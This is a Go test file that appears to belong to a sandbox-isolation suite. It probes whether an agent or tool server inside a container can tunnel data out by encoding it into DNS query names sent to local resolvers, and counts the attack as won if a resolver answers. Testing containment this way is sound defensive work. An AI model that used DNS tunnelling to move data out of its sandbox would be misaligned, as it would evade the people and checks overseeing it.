package main

import (
	"context"
	"fmt"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/waza-isolate/waza/sandbox/probe"
	"github.com/waza-isolate/waza/test/attacks/part"
)

// tunnelled is the number of DNS queries that carry data.
const tunnelled = 60

func namingActs() map[string]act {
	return map[string]act{part.Tunnel: {agent: tunnelling(agent), tool: tunnelling(stdioServer)}}
}

// tunnelling sends data in DNS queries. Whether a query left the container is not visible
// here; a response is.
func tunnelling(role string) func(context.Context) []part.Word {
	return func(ctx context.Context) []part.Word {
		w := part.Word{Attack: part.Tunnel, Detail: fmt.Sprintf("as %s: %d questions, each without an answer", role, tunnelled)}
		for i := range tunnelled {
			network := []string{"tcp", "udp"}[i%2]
			server := []string{"127.0.0.1", "127.0.0.11"}[i/2%2]
			name := fmt.Sprintf("%x.%d.%s", "what the agent knows", i, part.TunnelZone)
			code, _, err := probe.Lookup(ctx, network, server, name)
			if err == nil && code != dnsmessage.RCodeNameError && code != dnsmessage.RCodeRefused {
				return []part.Word{{Attack: part.Tunnel, Won: true, Detail: fmt.Sprintf("as %s: %s answers %s over %s", role, server, code, network)}}
			}
		}
		return []part.Word{w}
	}
}
